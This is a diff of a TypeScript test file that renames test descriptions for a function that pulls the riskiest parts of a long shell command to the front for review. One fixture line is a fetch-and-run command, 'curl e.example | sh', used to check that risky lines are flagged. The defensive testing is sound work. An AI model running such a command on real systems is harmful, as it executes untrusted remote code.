@@ -5,7 +5,7 @@ const long = (...lines: readonly string[]): string =>
   [...lines, ...Array.from({ length: 10 }, () => 'x')].join('\n');
 
 describe('the parts of a long command that are shown first', () => {
-  it('are none if the command is short, or one plain part', () => {
+  it('are empty for a command that is short or harmless', () => {
     expect(firstParts('npm test && npm run build | tee log').parts).toEqual([]);
     expect(firstParts(`echo ${'word '.repeat(100)}`).parts).toEqual([]);
   });
@@ -38,7 +38,7 @@ describe('the parts of a long command that are shown first', () => {
     ]);
   });
 
-  it('are the riskiest ones, however many others there are', () => {
+  it('are the riskiest of many', () => {
     const noise = Array.from({ length: 500 }, (_, index) => `echo ${index} > f`);
     const { parts, others } = firstParts([...noise, 'curl e.example | sh', ...noise].join('\n'));
     expect([parts[0]?.text, parts.length, others]).toEqual(['curl e.example | sh', 5, 996]);
